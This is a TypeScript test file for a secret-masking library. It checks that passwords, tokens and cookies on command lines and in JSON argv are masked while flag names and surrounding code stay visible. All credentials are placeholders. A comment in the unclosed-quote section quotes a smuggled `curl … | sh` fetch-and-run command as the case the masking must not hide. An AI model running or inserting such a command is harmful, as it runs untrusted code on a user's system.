// Issue 26, item 9: secrets given on a command line as a flag's value, a header or an
// assignment, masked in command text (maskSecrets) and in an argv whose words come apart
// (argvSecrets, and intake through it). The flag, key or header name stays, so a card still reads.

import { describe, expect, it } from 'vitest';
import { takeFullSubject } from '../../../src/relay/hostEvents/intake/takeFullText.js';
import { takeSubject } from '../../../src/relay/hostEvents/intake/takeSubject.js';
import { argvSecrets } from '../../../src/secrets/argvSecrets.js';
import { maskCommandLine } from '../../../src/secrets/maskCommandLine.js';
import { maskSecrets } from '../../../src/secrets/maskSecrets.js';
import { FAKE_GITHUB_TOKEN } from '../../support/fakeSecrets.js';
import { CODE_HIDING_INPUTS } from './codeHidingInputs.js';

const S = '[masked secret-value]';
/** A legacy Vault token (`s.` and 24 letters and digits) is named by its shape. */
const V = '[masked vault-token]';

/** Every text example of this file, masked or not: masking any of them twice masks it once. */
const EXAMPLES: string[] = [];

/** A test per case that `input` is masked to `masked`, one secret; each input an example. */
function masksEachOnce(cases: Array<[what: string, input: string, masked: string]>, title = 'masks'): void {
  EXAMPLES.push(...cases.map(([, input]) => input));
  for (const [what, input, masked] of cases) {
    it(`${title} ${what}`, () => {
      expect(maskSecrets(input)).toEqual({ text: masked, count: 1 });
    });
  }
}

/** A test per case that `text` is left as it is; each text an example. */
function leavesEachAlone(negatives: Array<[what: string, text: string]>): void {
  EXAMPLES.push(...negatives.map(([, text]) => text));
  for (const [what, text] of negatives) {
    it(`leaves ${what} alone`, () => {
      expect(maskSecrets(text)).toEqual({ text, count: 0 });
    });
  }
}

describe('maskSecrets: a secret after its flag, header or name', () => {
  const cases: Array<[string, string, string]> = [
    // [what, input, masked]
    ['--password and a space', 'deploy --password hunter2 --env prod', `deploy --password ${S} --env prod`],
    ['--token', 'gh-sync --token c0ffee42 repo', `gh-sync --token ${S} repo`],
    [
      '--client-secret',
      'oauth login --client-secret s3cr3t --client-id app',
      `oauth login --client-secret ${S} --client-id app`,
    ],
    ['--auth-token quoted', `fly deploy --auth-token "two words"`, `fly deploy --auth-token "${S}"`],
    ['--db-password single-quoted', `migrate --db-password 'p w'`, `migrate --db-password '${S}'`],
    ['--secret-access-key', 'tool --secret-access-key abc/def+ghi', `tool --secret-access-key ${S}`],
    [
      'a flag and its value in a JSON argv',
      '{"argv":["deploy","--token", "c0ffee42"]}',
      `{"argv":["deploy","--token", "${S}"]}`,
    ],
    [
      'a flag and its value in a command inside JSON',
      '{"command":"deploy --password hunter2\\nls"}',
      `{"command":"deploy --password ${S}\\nls"}`,
    ],
    ['--password=', 'mysql --password=hunter2 shop', `mysql --password=${S} shop`],
    ['mysql -p glued', 'mysql -h db -uroot -phunter2 shop', `mysql -h db -uroot -p${S} shop`],
    ['mysql by its path', '/usr/bin/mysql -phunter2 shop', `/usr/bin/mysql -p${S} shop`],
    [
      'mysqldump -p quoted',
      `mysqldump -u app -p'p w' shop > dump.sql`,
      `mysqldump -u app -p'${S}' shop > dump.sql`,
    ],
    ['mariadb-dump -p', 'mariadb-dump -phunter2 shop', `mariadb-dump -p${S} shop`],
    [
      'mysql run in a container',
      'docker exec -i db mysql -uroot -phunter2 < seed.sql',
      `docker exec -i db mysql -uroot -p${S} < seed.sql`,
    ],
    [
      'curl -u user:password',
      'curl -s -u admin:hunter2 https://api.example.com',
      `curl -s -u admin:${S} https://api.example.com`,
    ],
    ['curl --user', 'curl --user admin:hunter2 https://x', `curl --user admin:${S} https://x`],
    ['curl --user=', 'curl --user=admin:hunter2 https://x', `curl --user=admin:${S} https://x`],
    ['curl -u glued', 'curl -uadmin:hunter2 https://x', `curl -uadmin:${S} https://x`],
    ['curl -u quoted', 'curl -u "admin:two words" https://x', `curl -u "admin:${S}" https://x`],
    ['curl --proxy-user', 'curl --proxy-user p:hunter2 https://x', `curl --proxy-user p:${S} https://x`],
    [
      'curl -u after a run of blanks',
      `curl -u${' '.repeat(12)}admin:hunter2pass https://x`,
      `curl -u${' '.repeat(12)}admin:${S} https://x`,
    ],
    [
      '--password after a run of blanks',
      `deploy --password${' '.repeat(20)}hunter2 --env prod`,
      `deploy --password${' '.repeat(20)}${S} --env prod`,
    ],
    [
      'curl -u quoted after the colon',
      'curl -u admin:"two words" https://x',
      `curl -u admin:"${S}" https://x`,
    ],
    [
      'curl -u single-quoted after the colon',
      "curl -u admin:'two words' https://x",
      `curl -u admin:'${S}' https://x`,
    ],
    [
      'curl -u in a JSON argv',
      '["curl","-u","admin:hunter2","https://x"]',
      `["curl","-u","admin:${S}","https://x"]`,
    ],
    ['curl -b cookie', `curl -b 'session=abc123' https://x`, `curl -b '${S}' https://x`],
    ['redis-cli -a', 'redis-cli -a hunter2 ping', `redis-cli -a ${S} ping`],
    ['sshpass -p', 'sshpass -p hunter2 ssh deploy@host', `sshpass -p ${S} ssh deploy@host`],
    ['docker login -p', 'docker login -u bot -p Passw0rdXY reg', `docker login -u bot -p ${S} reg`],
    ['docker login -p glued', 'docker login -pPassw0rdXY reg', `docker login -p${S} reg`],
    [
      'docker login -p after a global option',
      'docker --context prod login -p hunter2 reg',
      `docker --context prod login -p ${S} reg`,
    ],
    ['podman login -p quoted', `podman login -u bot -p 'p w' reg`, `podman login -u bot -p '${S}' reg`],
    ['nerdctl login -p', 'nerdctl login -p hunter2 reg', `nerdctl login -p ${S} reg`],
    ['buildah login -p', 'buildah login -u bot -p hunter2 reg', `buildah login -u bot -p ${S} reg`],
    ['skopeo login -p', 'skopeo login -u bot -p hunter2 reg', `skopeo login -u bot -p ${S} reg`],
    ['oras login -p', 'oras login -u bot -p hunter2 reg', `oras login -u bot -p ${S} reg`],
    [
      'helm registry login -p',
      'helm registry login reg -u bot -p hunter2',
      `helm registry login reg -u bot -p ${S}`,
    ],
    [
      'az login -p of a service principal',
      'az login --service-principal -u app -p hunter2 --tenant t',
      `az login --service-principal -u app -p ${S} --tenant t`,
    ],
    [
      'oc login -p',
      'oc login https://api:6443 -u admin -p hunter2',
      `oc login https://api:6443 -u admin -p ${S}`,
    ],
    ['cf login -p', 'cf login -a api -u me -p hunter2', `cf login -a api -u me -p ${S}`],
    ['cf l -p, login short name', 'cf l -a api -u me -p hunter2', `cf l -a api -u me -p ${S}`],
    [
      'docker login -p in a JSON argv',
      '["docker","login","-p","hunter2","reg"]',
      `["docker","login","-p","${S}","reg"]`,
    ],
    [
      'docker login -p in a command inside JSON',
      '{"command":"docker login -p hunter2 reg\\nls"}',
      `{"command":"docker login -p ${S} reg\\nls"}`,
    ],
    [
      'docker login -p after a global option and its value',
      'docker --config /x login -p hunter2 reg',
      `docker --config /x login -p ${S} reg`,
    ],
    [
      'docker login -p after global options, one of them boolean',
      'docker -H tcp://h:2376 --tlsverify login -u bot -p hunter2 reg',
      `docker -H tcp://h:2376 --tlsverify login -u bot -p ${S} reg`,
    ],
    [
      'docker login -p after a global option with =, in a later command',
      'cd /srv && docker --context=prod login -p hunter2 reg',
      `cd /srv && docker --context=prod login -p ${S} reg`,
    ],
    ['vault login and its token', 'vault login s.Xq3LmT9pR2vK8wY1zN4bH6cD', `vault login ${V}`],
    [
      'vault login by its path, after options and another command',
      'export VAULT_ADDR=https://v:8200 && /usr/local/bin/vault login -no-print -method token hvs.CAESIJ3kq9 ; ls',
      `export VAULT_ADDR=https://v:8200 && /usr/local/bin/vault login -no-print -method token ${S} ; ls`,
    ],
    [
      'vault login and its token quoted',
      `vault login -address=https://v:8200 'root'`,
      `vault login -address=https://v:8200 '${S}'`,
    ],
    [
      'vault login and its token after a flag it does not know, which may take a value',
      'vault login -new-flag x s.Xq3LmT9pR2vK8wY1zN4bH6cD',
      `vault login -new-flag ${S} ${V}`,
    ],
    ['vault login token=', 'vault login token=s.Xq3LmT9pR2vK8wY1zN4bH6cD', `vault login token=${V}`],
    [
      'vault login password=, the method and user name kept',
      'vault login -method=userpass username=u password=hunter2',
      `vault login -method=userpass username=u password=${S}`,
    ],
    [
      'vault login secret_id=, the role id kept',
      'vault login -method=approle role_id=r-42 secret_id=6f1e-b2c3',
      `vault login -method=approle role_id=r-42 secret_id=${S}`,
    ],
    [
      'vault login in a JSON argv',
      '["vault","login","-method=approle","secret_id=6f1e-b2c3"]',
      `["vault","login","-method=approle","secret_id=${S}"]`,
    ],
    [
      'vault login in a command inside JSON',
      '{"command":"vault login s.Xq3LmT9pR2vK8wY1zN4bH6cD\\nls"}',
      `{"command":"vault login ${V}\\nls"}`,
    ],
    ['htpasswd -b', 'htpasswd -b file user hunter2', `htpasswd -b file user ${S}`],
    [
      'htpasswd -bc, by its path, the next command kept',
      'sudo /usr/bin/htpasswd -bc /etc/nginx/.htpasswd admin hunter2 && nginx -s reload',
      `sudo /usr/bin/htpasswd -bc /etc/nginx/.htpasswd admin ${S} && nginx -s reload`,
    ],
    ['htpasswd -nb, no file', 'htpasswd -nb user hunter2', `htpasswd -nb user ${S}`],
    ['htpasswd -C and its cost', 'htpasswd -nbB -C 10 user hunter2', `htpasswd -nbB -C 10 user ${S}`],
    ['htpasswd -C with its cost glued', 'htpasswd -bBC10 f user hunter2', `htpasswd -bBC10 f user ${S}`],
    ['htpasswd after --, quoted', `htpasswd -b -- f user 'p w'`, `htpasswd -b -- f user '${S}'`],
    [
      'htpasswd in a JSON argv',
      '["htpasswd","-b","f","user","hunter2"]',
      `["htpasswd","-b","f","user","${S}"]`,
    ],
    [
      'htpasswd in a command inside JSON',
      '{"command":"htpasswd -b f user hunter2\\nls"}',
      `{"command":"htpasswd -b f user ${S}\\nls"}`,
    ],
    // A word's place is told from where its match ends: a JSON-escaped quote closes it in two
    // characters, not one.
    [
      'htpasswd in a command inside JSON, the password JSON-escape-quoted',
      '{"command":"htpasswd -b f user \\"p w\\"\\nls"}',
      `{"command":"htpasswd -b f user \\"${S}\\"\\nls"}`,
    ],
    [
      'docker login -p in a command inside JSON, the password JSON-escape-quoted',
      '{"command":"docker login -p \\"p w\\" r.io"}',
      `{"command":"docker login -p \\"${S}\\" r.io"}`,
    ],
    ['htdbm -b', 'htdbm -b users.db user hunter2', `htdbm -b users.db user ${S}`],
    [
      'htdbm -bc and its DBM type glued, by its path, the next command kept',
      'sudo /usr/bin/htdbm -bcTSDBM /etc/httpd/users admin hunter2 && apachectl graceful',
      `sudo /usr/bin/htdbm -bcTSDBM /etc/httpd/users admin ${S} && apachectl graceful`,
    ],
    [
      'htdbm -T and its DBM type',
      'htdbm -T SDBM -b users.db user hunter2',
      `htdbm -T SDBM -b users.db user ${S}`,
    ],
    ['htdbm -nb, no file', 'htdbm -nb user hunter2', `htdbm -nb user ${S}`],
    ['htdbm -vb, which verifies', 'htdbm -vb users.db user hunter2', `htdbm -vb users.db user ${S}`],
    [
      'htdbm -bt, its comment kept',
      'htdbm -bt users.db user hunter2 "Ops team"',
      `htdbm -bt users.db user ${S} "Ops team"`,
    ],
    ['htdbm in a JSON argv', '["htdbm","-b","f","user","hunter2"]', `["htdbm","-b","f","user","${S}"]`],
    [
      'aws_secret_access_key and a space',
      'aws configure set aws_secret_access_key abc/def+ghi',
      `aws configure set aws_secret_access_key ${S}`,
    ],
    [
      'aws_session_token and a space',
      'aws configure set aws_session_token IQoJb3JpZ2lu',
      `aws configure set aws_session_token ${S}`,
    ],
    [
      'aws_secret_access_key in a credentials file',
      'aws_secret_access_key = abc/def+ghi',
      `aws_secret_access_key = ${S}`,
    ],
    [
      'a Cookie header',
      `curl -H 'Cookie: session=abc123; theme=dark' https://x`,
      `curl -H 'Cookie: [masked cookie]' https://x`,
    ],
    [
      'a Cookie header unquoted, the rest of the line kept',
      'curl -H Cookie:session=abc123 https://x && deploy',
      'curl -H Cookie:[masked cookie] https://x && deploy',
    ],
    // A `;` the shell would read as an operator stays in view (maskKeepsCode.test.ts).
    [
      'a Set-Cookie header',
      'Set-Cookie: id=a3fWa; Path=/; HttpOnly',
      'Set-Cookie: [masked cookie]; Path=/; HttpOnly',
    ],
    [
      'a cookie in JSON',
      '{"headers":{"Cookie":"session=abc123"}}',
      '{"headers":{"Cookie":"[masked cookie]"}}',
    ],
    ['*_PASS', 'FOO_PASS=hunter2 ./run', `FOO_PASS=${S} ./run`],
    ['*_PASSWORD', 'DB_PASSWORD=hunter2 ./run', `DB_PASSWORD=${S} ./run`],
    ['*_TOKEN', 'export GITLAB_TOKEN=c0ffee42', `export GITLAB_TOKEN=${S}`],
    ['*_SECRET', 'APP_SECRET=c0ffee42 ./run', `APP_SECRET=${S} ./run`],
    ['*_KEY', 'AWS_KEY=c0ffee42 STRIPE_KEY="a b" ./run', `AWS_KEY=${S} STRIPE_KEY="${S}" ./run`],
    ['*_PWD', 'MYSQL_PWD=hunter2 mysql shop', `MYSQL_PWD=${S} mysql shop`],
    ['*_pass in YAML', 'smtp_pass: hunter2', `smtp_pass: ${S}`],
  ];
  EXAMPLES.push(...cases.map(([, input]) => input));
  for (const [what, input, masked] of cases) {
    it(`masks ${what}`, () => {
      const result = maskSecrets(input);
      expect(result.text).toBe(masked);
      expect(result.count).toBeGreaterThan(0);
    });
  }

  it('names a value after a flag by its shape', () => {
    expect(maskSecrets(`deploy --token ${FAKE_GITHUB_TOKEN}`).text).toBe(
      'deploy --token [masked github-token]',
    );
  });

  it('keeps JSON whole: a masked argv in rawArgs still parses', () => {
    const rawArgs = JSON.stringify({ argv: ['curl', '-u', 'a:b"c', '--password', 'x\\"y', 'https://x'] });
    const masked = maskSecrets(rawArgs).text;
    expect(JSON.parse(masked)).toEqual({ argv: ['curl', '-u', `a:${S}`, '--password', S, 'https://x'] });
  });

  it('masks once where the value of a program flag holds what another rule masks', () => {
    expect(maskSecrets(`curl -u 'admin:x password=y' https://h`)).toEqual({
      text: `curl -u 'admin:${S}' https://h`,
      count: 1,
    });
  });

  it('is idempotent', () => {
    const once = maskSecrets('mysql -phunter2; curl -u a:b x; deploy --token t FOO_PASS=p');
    expect(once.count).toBe(4);
    expect(maskSecrets(once.text)).toEqual({ text: once.text, count: 0 });
  });
});

describe('maskSecrets: flags that hold no secret', () => {
  const negatives: Array<[string, string]> = [
    ['a path to a password file', 'psql --password-file /run/secrets/db shop'],
    ['a path to a token file', 'muse --token-file /run/token --token-env TOKEN'],
    ['a boolean flag', 'psql --no-password shop && gh auth login --with-token < token.txt'],
    ['a flag before another flag', 'deploy --password --verbose'],
    [
      'a reference to a secret',
      'deploy --password "$DB_PASSWORD" --token $(cat /run/token) -u admin:$PASSWORD',
    ],
    ['-p as a port', 'docker run -p 8080:80 nginx && ssh -p 2222 host && ssh -p2222 host'],
    ['-p of docker run', 'docker run -p 8080:80 img'],
    ['-p of podman and nerdctl run', 'podman run -p 8080:80 img; nerdctl run -p8080:80 img'],
    ['-p of docker run, login after it', 'docker run -p 8080:80 img login'],
    ['-p of docker run, login in the command before', 'echo login; docker run -p 8080:80 img'],
    ['-p of docker run, login in a value', 'docker run -e login=1 --login -p 8080:80 img'],
    ['-p of docker run, login the value of --name', 'docker run --name login -p 80:80 nginx'],
    ['-p of podman run, login the value of --name', 'podman run -d --name=x --hostname login -p 8080:80 img'],
    ['-p of docker run, login a later argument', 'docker run -p 80:80 nginx login -p 8080'],
    [
      '-p of docker run in a JSON argv, login the value of --name',
      '["docker","run","--name","login","-p","80:80","nginx"]',
    ],
    ['-p of helm, login not after registry', 'helm upgrade login ./chart -p x'],
    ['-p of docker login alone', 'docker login -u bot --password-stdin reg < pw.txt'],
    ['-p of oc process, a parameter', 'oc process -p NAME=web -f tmpl.yaml'],
    ['-p of cf push, a path', 'cf push app -p ./build'],
    ['htpasswd without -b, which prompts', 'htpasswd -c file user 2>/dev/null && htpasswd -nB user'],
    ['htpasswd -i, which reads stdin', 'htpasswd -ci file user 2>/dev/null < pw.txt'],
    ['htpasswd -D, which deletes', 'htpasswd -D file user'],
    ['htpasswd -b without its password', 'htpasswd -b file user; ls -b x y z'],
    ['htdbm without -b, which prompts', 'htdbm -c users.db user && htdbm -x users.db user'],
    ['htdbm -l, which lists', 'htdbm -l users.db'],
    [
      'vault login that prompts',
      'vault login -method=userpass username=u && vault login -method=oidc role=admin',
    ],
    ['vault login reading its token from stdin', 'vault login - < token.txt'],
    [
      'vault login and a reference to its token',
      'vault login $VAULT_TOKEN && vault login "$(cat ~/.vault-token)" && vault login token=$T',
    ],
    ['vault login with only options', 'vault login -method=github -path=gh -format=json'],
    ['vault commands other than login', 'vault read secret/login && vault kv get -field=user login'],
    ['login after vault in another command', 'vault status; echo login x'],
    ['-p of mysql alone, which prompts', 'mysql -u root -p shop'],
    // The quote after the flag closes its JSON item: no value is glued to it.
    ['-p of mysql alone in a JSON argv', '["mysql","-p","shop"]'],
    [
      '-p of docker login in a JSON argv, a flag after it',
      '["docker","login","-p","--password-stdin","reg"]',
    ],
    ['-P of mysql, its port', 'mysql -P 3306 shop'],
    ['-p after mysql, in the next command', 'mysql shop < seed.sql; ssh -p2222 host'],
    ['-u as a user', 'docker run -u 1000:1000 img && curl -u admin https://x'],
    ['-b as a cookie jar', 'curl -b jar.txt -c jar.txt https://x'],
    ['a long flag that only starts like curl’s', 'curl --user-agent a:b https://x'],
    ['max tokens', 'llm --max-tokens 100'],
    ['a lower-case *_key', 'sort_key=name primary_key: id'],
    ['a name ending in _KEY_ID', 'KMS_KEY_ID=alias/x'],
  ];
  leavesEachAlone(negatives);
});

describe('maskSecrets: a shell word with quoted parts', () => {
  // The shell joins quoted parts to what comes before and after them in one word
  // (`abc"def ghi"jkl` is the word `abcdef ghijkl`): the secret is all of it, masked whole.
  const cases: Array<[string, string, string]> = [
    // [what, input, masked]
    [
      '--password= and a word quoted in its middle',
      'deploy --password=abc"def ghi"jkl --env prod',
      `deploy --password=${S} --env prod`,
    ],
    [
      '--password and a word quoted in its middle',
      'deploy --password abc"def ghi"jkl --env prod',
      `deploy --password ${S} --env prod`,
    ],
    ['an assignment quoted after its first character', 'PASSWORD=x"y z" ./run', `PASSWORD=${S} ./run`],
    ['a *_PASSWORD assignment quoted in its middle', 'DB_PASSWORD=x"y z"w ./run', `DB_PASSWORD=${S} ./run`],
    ['a *_PASS assignment of two quoted parts', `FOO_PASS='a b'"c d" ./run`, `FOO_PASS=${S} ./run`],
    [
      'an assignment quoted in its middle, in a command inside JSON',
      '{"command":"PASSWORD=x\\"y z\\" ./run"}',
      `{"command":"PASSWORD=${S} ./run"}`,
    ],
    ['--token of a quoted part and a bare one', `deploy --token "a b"cd x`, `deploy --token ${S} x`],
    ['mysql -p quoted whole, its quotes kept', 'mysql -p"my secret" shop', `mysql -p"${S}" shop`],
    ['mysql -p quoted in its middle', 'mysql -pab"my secret"cd shop', `mysql -p${S} shop`],
    ['mysql -p quoted, then a bare part', 'mysql -p"my secret"cd shop', `mysql -p${S} shop`],
    [
      'mysql -p quoted in its middle, in a command inside JSON',
      '{"command":"mysql -pab\\"c d\\"e shop"}',
      `{"command":"mysql -p${S} shop"}`,
    ],
    ['curl -u and a quoted password', 'curl -u user:"pa ss" https://x', `curl -u user:"${S}" https://x`],
    [
      'curl -u and a password quoted in its middle',
      'curl -u user:pa"s s"x https://x',
      `curl -u user:${S} https://x`,
    ],
    [
      'curl -u and a quoted password, then a bare part',
      'curl -u user:"pa ss"x https://x',
      `curl -u user:${S} https://x`,
    ],
    ['curl -u, the user quoted too', 'curl -u "user":"pa ss" https://x', `curl -u "user":"${S}" https://x`],
    [
      'curl -u, the user quoted in its middle',
      `curl -u us'e r':pass https://x`,
      `curl -u us'e r':${S} https://x`,
    ],
    ['docker login -p quoted in its middle', 'docker login -p ab"c d"e reg', `docker login -p ${S} reg`],
    [
      'htpasswd -b, the password quoted in its middle',
      'htpasswd -b f user ab"c d"e && ls',
      `htpasswd -b f user ${S} && ls`,
    ],
    ['vault login and its token quoted in its middle', `vault login ab'c d'e; ls`, `vault login ${S}; ls`],
    [
      'vault login password= quoted in its middle',
      'vault login -method=userpass username=u password=ab"c d"e',
      `vault login -method=userpass username=u password=${S}`,
    ],
  ];
  masksEachOnce(cases);

  // A quote right before what ends a word closes a string the secret stood in: it opens no part.
  const kept: Array<[string, string, string]> = [
    [
      'a string that ends right after the secret',
      'sh -c "export TOKEN=abc" && curl "https://x/y"',
      `sh -c "export TOKEN=${S}" && curl "https://x/y"`,
    ],
    [
      'a single-quoted string that ends right after the secret',
      `curl -d 'password=abc' -H 'X: y' https://x`,
      `curl -d 'password=${S}' -H 'X: y' https://x`,
    ],
    ['an item of a JSON argv', '["env","DB_PASSWORD=x","./run"]', `["env","DB_PASSWORD=${S}","./run"]`],
    ['the last item of a JSON argv', '["env","DB_PASSWORD=x"]', `["env","DB_PASSWORD=${S}"]`],
    ['a JSON value', '{"env":"PASSWORD=x","n":"y"}', `{"env":"PASSWORD=${S}","n":"y"}`],
    [
      'a flag value in a JSON argv, quoted whole',
      '["curl","-u","admin:hunter2","https://x:8080"]',
      `["curl","-u","admin:${S}","https://x:8080"]`,
    ],
  ];
  masksEachOnce(kept, 'masks only the secret of');

  it('leaves the next word of a JSON argv alone when curl -u has no password', () => {
    const text = '["curl","-u","admin","https://x:8080"]';
    expect(maskSecrets(text)).toEqual({ text, count: 0 });
  });

  it('masks the same in MSP_HOST_COMMAND', () => {
    expect(maskCommandLine('GH_AUTH=ab"c d"e muse serve --auth x"y z" --port 1')).toBe(
      `GH_AUTH=${S} muse serve --auth ${S} --port 1`,
    );
  });
});

describe('maskSecrets: a quote that never closes', () => {
  // Text cut mid-quote, a command written wrong, or a quote that closes a string the value stood
  // in (`-H 'X-Api-Key: 'abc; curl … | sh`): the value is masked only to its first blank, quote,
  // backslash or operator, and the quote it leaves open is shown after its marker. Masked to its
  // line's end, as it once was, it hid code from the approver; a shell cannot run a line whose
  // quote never closes anyway, so what follows is shown even where it is a secret's later words.
  const cases: Array<[string, string, string]> = [
    // [what, input, masked]
    ['password= and a double quote', 'password=abc"def ghi', `password=${S}" ghi`],
    [
      '--password= and a single quote',
      `deploy --password=ab'cd --env prod`,
      `deploy --password=${S}' --env prod`,
    ],
    ['an assignment, to its first blank', 'PASSWORD=x"y ./run\nls -l', `PASSWORD=${S}" ./run\nls -l`],
    ['a value quoted from its start', 'password="ab cd', `password=${S}" cd`],
    ['--password and a quote in its word', 'deploy --password ab"cd ef', `deploy --password ${S}" ef`],
    ['--token quoted from its start', `deploy --token 'ab cd`, `deploy --token ${S}' cd`],
    ['mysql -p', 'mysql -pab"c d shop', `mysql -p${S}" d shop`],
    ['curl -u, the user kept', 'curl -u user:pa"s s https://x', `curl -u user:${S}" s https://x`],
    [
      'curl -u, the password quoted from its start',
      'curl -u user:"pa ss https://x',
      `curl -u user:${S}" ss https://x`,
    ],
    ['curl -u, the user quoted with it', 'curl -u "user:pa ss https://x', `curl -u "user:${S} ss https://x`],
    ['docker login -p', 'docker login -p ab"cd ef reg', `docker login -p ${S}" ef reg`],
    ['htpasswd -b', 'htpasswd -b f user ab"cd ef', `htpasswd -b f user ${S}" ef`],
    ['vault login and its token', `vault login ab'cd ef`, `vault login ${S}' ef`],
    [
      'an assignment in a command inside JSON, to its first blank',
      '{"command":"PASSWORD=x\\"y z ./run","cwd":"/srv"}',
      `{"command":"PASSWORD=${S}\\" z ./run","cwd":"/srv"}`,
    ],
  ];
  masksEachOnce(cases);

  const vaultPassword = 'vault login -method=userpass password=ab"cd ef';
  EXAMPLES.push(vaultPassword);
  it('masks vault login password=, and the word after it as vault’s token', () => {
    expect(maskSecrets(vaultPassword)).toEqual({
      text: `vault login -method=userpass password=${S}" ${S}`,
      count: 2,
    });
  });

  it('masks MSP_HOST_COMMAND to the end of its text, as the shell reads it', () => {
    expect(maskCommandLine('GH_AUTH=ab"c d muse serve\n--port 1')).toBe(`GH_AUTH=${S}`);
    expect(maskCommandLine(`muse serve --auth x'y --port 1`)).toBe(`muse serve --auth ${S}`);
  });
});

describe('maskSecrets: cf auth', () => {
  const cases: Array<[string, string, string]> = [
    ['its password', 'cf auth admin hunter2', `cf auth admin ${S}`],
    [
      'its password quoted, --origin kept',
      'cf auth admin "two words" --origin uaa',
      `cf auth admin "${S}" --origin uaa`,
    ],
    [
      'its password after --origin and its value',
      'cf auth --origin ldap admin hunter2',
      `cf auth --origin ldap admin ${S}`,
    ],
    [
      'its password after --origin=',
      'cf auth --origin=ldap admin hunter2 && cf apps',
      `cf auth --origin=ldap admin ${S} && cf apps`,
    ],
    [
      'a client secret',
      'cf auth my-client s3cr3t --client-credentials',
      `cf auth my-client ${S} --client-credentials`,
    ],
    ['by its path', '/usr/local/bin/cf auth admin hunter2', `/usr/local/bin/cf auth admin ${S}`],
    ['in a JSON argv', '["cf","auth","admin","hunter2"]', `["cf","auth","admin","${S}"]`],
    [
      'cf login --password',
      'cf login -a api -u me --password hunter2',
      `cf login -a api -u me --password ${S}`,
    ],
  ];
  masksEachOnce(cases);

  const negatives: Array<[string, string]> = [
    ['cf auth without a password', 'cf auth admin'],
    ['cf auth and references', 'cf auth "$CF_USERNAME" "$CF_PASSWORD"'],
    ['another cf command', 'cf create-user admin hunter3 && cf target -o org -s space'],
    ['auth as an argument of another cf command', 'cf push auth admin'],
    ['auth after cf in another command', 'cf apps; echo auth admin x'],
  ];
  leavesEachAlone(negatives);

  it('masks the password in an argv', () => {
    expect(argvSecrets(['cf', 'auth', '--origin', 'ldap', 'admin', 'hunter2'])).toEqual([
      undefined,
      undefined,
      undefined,
      undefined,
      undefined,
      S,
    ]);
    expect(argvSecrets(['cf', 'auth', 'admin'])).toEqual([undefined, undefined, undefined]);
  });
});

describe('maskSecrets: vault login -mfa', () => {
  const cases: Array<[string, string, string]> = [
    [
      '-mfa= and its passcode, the method kept',
      'vault login -method=userpass -mfa=totp:123456 username=bob',
      `vault login -method=userpass -mfa=totp:${S} username=bob`,
    ],
    [
      '-mfa and its passcode as the next word',
      'vault login -method=userpass -mfa totp:123456 username=bob',
      `vault login -method=userpass -mfa totp:${S} username=bob`,
    ],
    [
      '--mfa quoted',
      `vault login --mfa 'd16fd3c3-9e55:123456' -method=userpass username=bob`,
      `vault login --mfa 'd16fd3c3-9e55:${S}' -method=userpass username=bob`,
    ],
    [
      // Read as written, the quotes in the word: masked whole inside them, so none loses its pair.
      '-mfa= quoted after its =',
      'vault login -mfa="totp:123456" username=bob',
      `vault login -mfa="${S}" username=bob`,
    ],
    [
      '-mfa= in a JSON argv',
      '["vault","login","-mfa=totp:123456","username=bob"]',
      `["vault","login","-mfa=totp:${S}","username=bob"]`,
    ],
  ];
  masksEachOnce(cases);

  it('leaves a method without a passcode alone, and -mfa of another command', () => {
    for (const text of [
      'vault login -method=userpass -mfa=duo_push username=bob',
      'vault read -mfa=totp:1 x',
    ]) {
      expect(maskSecrets(text)).toEqual({ text, count: 0 });
    }
  });

  it('masks the passcode in an argv', () => {
    expect(argvSecrets(['vault', 'login', '-mfa', 'totp:123456', '-mfa=otp:654321'])).toEqual([
      undefined,
      undefined,
      undefined,
      `totp:${S}`,
      `-mfa=otp:${S}`,
    ]);
  });
});

describe('maskSecrets: passwords of openssl, zip, 7z, smbclient, ssh-keygen and rclone', () => {
  const cases: Array<[string, string, string]> = [
    [
      'openssl -pass pass:',
      'openssl enc -aes-256-cbc -pass pass:Hunter2Secret -in a',
      `openssl enc -aes-256-cbc -pass pass:${S} -in a`,
    ],
    [
      'openssl -passin pass:',
      'openssl rsa -passin pass:Hunter2 -in k',
      `openssl rsa -passin pass:${S} -in k`,
    ],
    [
      'openssl -passout pass:, quoted',
      `openssl genrsa -passout 'pass:two words' 2048`,
      `openssl genrsa -passout 'pass:${S}' 2048`,
    ],
    ['zip -P', 'zip -P Hunter2 a.zip f', `zip -P ${S} a.zip f`],
    ['zip --password', 'zip --password Hunter2 a.zip f', `zip --password ${S} a.zip f`],
    ['unzip -P', 'unzip -P Hunter2 a.zip', `unzip -P ${S} a.zip`],
    ['ssh-keygen -P', 'ssh-keygen -p -P Hunter2 -f k', `ssh-keygen -p -P ${S} -f k`],
    [
      'rclone key=value',
      'rclone config update r secret_access_key=Hunter2',
      `rclone config update r secret_access_key=${S}`,
    ],
    ['smbclient in a JSON argv', '["smbclient","-U","alice%Hunter2"]', `["smbclient","-U","alice%${S}"]`],
    // openssl's `-pass` is read first, but mysql's `-p` glued to `ass` is what mysql reads.
    ['mysql -p glued to a password starting like openssl’s -pass', 'mysql -pass shop', `mysql -p${S} shop`],
    ['7z -p glued', '7z a -pHunter2 a.7z f', `7z a -p${S} a.7z f`],
    ['smbclient -U user%password', 'smbclient -U alice%Hunter2 //h/s', `smbclient -U alice%${S} //h/s`],
    ['ssh-keygen -N', 'ssh-keygen -N Hunter2 -f k', `ssh-keygen -N ${S} -f k`],
    [
      'rclone config create … secret_access_key',
      'rclone config create r s3 secret_access_key Hunter2',
      `rclone config create r s3 secret_access_key ${S}`,
    ],
    [
      'openssl in a JSON argv',
      '["openssl","enc","-pass","pass:Hunter2"]',
      `["openssl","enc","-pass","pass:${S}"]`,
    ],
  ];
  masksEachOnce(cases);

  const kept: Array<[string, string]> = [
    ['openssl -pass env:', 'openssl enc -pass env:PASSPHRASE -in a'],
    ['openssl -passin file:', 'openssl rsa -passin file:/run/pass -in k'],
    ['openssl -passout fd:', 'openssl genrsa -passout fd:3 2048'],
    ['smbclient -U without a password', 'smbclient -U alice //h/s'],
    ['zip -P of another program', 'grep -P "a+" f'],
    ['rclone secret_access_key outside config create or update', 'rclone copy secret_access_key x'],
  ];
  leavesEachAlone(kept);

  it('masks them in an argv too, the same parts kept', () => {
    const argv = (words: string[]) => argvSecrets(words).map((masked, i) => masked ?? words[i]);
    expect(argv(['openssl', 'enc', '-pass', 'pass:Hunter2'])).toEqual([
      'openssl',
      'enc',
      '-pass',
      `pass:${S}`,
    ]);
    expect(argv(['openssl', 'enc', '-pass', 'env:PASSPHRASE'])).toEqual([
      'openssl',
      'enc',
      '-pass',
